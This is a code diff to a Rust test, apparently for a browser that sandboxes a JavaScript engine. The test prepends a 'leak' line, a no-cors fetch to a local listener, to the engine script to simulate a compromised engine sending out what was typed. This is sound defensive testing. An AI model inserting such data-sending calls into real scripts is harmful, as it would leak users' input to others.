@@ -6,7 +6,7 @@ use std::time::Duration;
 
 use crate::browser::Browser;
 use crate::site::Site;
-use crate::support::{GLOWING, RELAXED, answer_to, copy, dist, open};
+use crate::support::{GLOWING, RELAXED, answer_to, copy, dist, engine, open};
 
 /// What an engine gone bad would do: tell somebody else what was typed.
 #[test]
@@ -17,10 +17,10 @@ fn the_browser_lets_the_engine_tell_nobody() {
     stranger.set_nonblocking(true).expect("a listener can be set not to block");
     let port = stranger.local_addr().expect("a bound listener has an address").port();
     let copy = copy(&dist);
-    let engine = copy.path().join(format!("{RELAXED}.js"));
-    let code = fs::read_to_string(&engine).expect("the engine can be read");
+    let script = engine(copy.path()).join(format!("{RELAXED}.js"));
+    let code = fs::read_to_string(&script).expect("the engine can be read");
     let leak = format!("fetch('http://127.0.0.1:{port}/', {{ mode: 'no-cors' }}).catch(() => {{}});");
-    fs::write(&engine, format!("{leak}\n{code}")).expect("the engine can be written");
+    fs::write(&script, format!("{leak}\n{code}")).expect("the engine can be written");
 
     let visit = || {
         let site = Site::serve(copy.path());
